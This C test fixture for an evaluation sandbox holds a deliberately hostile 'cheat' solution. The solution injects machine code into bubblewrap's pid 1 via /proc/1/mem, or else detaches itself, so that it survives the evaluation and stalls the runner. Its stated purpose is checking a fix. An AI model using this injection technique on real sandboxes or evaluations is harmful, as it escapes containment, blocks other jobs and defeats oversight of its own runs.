/* Cheat: takes over the sandbox's init so the job never ends. The candidate runs under the same uid as
   bubblewrap's pid 1 (its reaper), so it can write into pid 1's memory through /proc/1/mem: at the place its
   blocked wait() returns to, code that leaves bwrap's session and process group, turns off "die with parent",
   names itself KF_MARK and sleeps forever. Then the candidate exits; pid 1 wakes up in that code, and keeps
   the runner's pipes (inherited from bwrap) open for good. Before the fix, the runner waited on those pipes
   forever and every later evaluation queued behind it.
   Where there is no init to attack (the candidate is pid 1 itself), it does the same to itself: leaves the
   session, turns off "die with parent", and sleeps forever in solution(). Expected either way: the call
   times out, and no process named KF_MARK outlives the evaluation. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

#ifndef KF_MARK
#define KF_MARK "kf-orphan"
#endif

static int attack_init(void) {
  if (getpid() == 1) return -1; /* we are the init: nothing else to take over */
  char buf[512];
  int fd = open("/proc/1/syscall", O_RDONLY);
  if (fd < 0) return -1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return -1;
  buf[n] = 0;
  /* "nr a1 a2 a3 a4 a5 a6 sp pc": pc is where the blocked system call returns to. */
  char *last = strrchr(buf, ' ');
  if (!last) return -1;
  unsigned long pc = strtoul(last + 1, NULL, 16);
  if (!pc) return -1;
  unsigned char code[64] = {
      0xb8, 0x70, 0, 0, 0, 0x0f, 0x05,                   /* setsid() */
      0xb8, 0x9d, 0, 0, 0, 0xbf, 0x01, 0, 0, 0, 0x31, 0xf6, 0x0f, 0x05, /* prctl(PR_SET_PDEATHSIG, 0) */
      0xb8, 0x9d, 0, 0, 0, 0xbf, 0x0f, 0, 0, 0,          /* prctl(PR_SET_NAME, */
      0x48, 0x8d, 0x35, 0x0b, 0, 0, 0, 0x0f, 0x05,       /*   name) : lea rsi, [rip + 11] */
      0xb8, 0x22, 0, 0, 0, 0x0f, 0x05, 0xeb, 0xf7,       /* for (;;) pause(); */
  };
  strncpy((char *)code + 49, KF_MARK, 14);
  int mem = open("/proc/1/mem", O_RDWR);
  if (mem < 0) return -1;
  ssize_t w = pwrite(mem, code, sizeof code, (off_t)pc);
  close(mem);
  return w == (ssize_t)sizeof code ? 0 : -1;
}

void solution(const float *x, float *y, int64_t n) {
  (void)x;
  (void)y;
  (void)n;
  if (attack_init() == 0) _exit(0); /* wakes pid 1 up in the code above */
  setsid();
  prctl(PR_SET_PDEATHSIG, 0);
  prctl(PR_SET_NAME, KF_MARK);
  for (;;) pause();
}
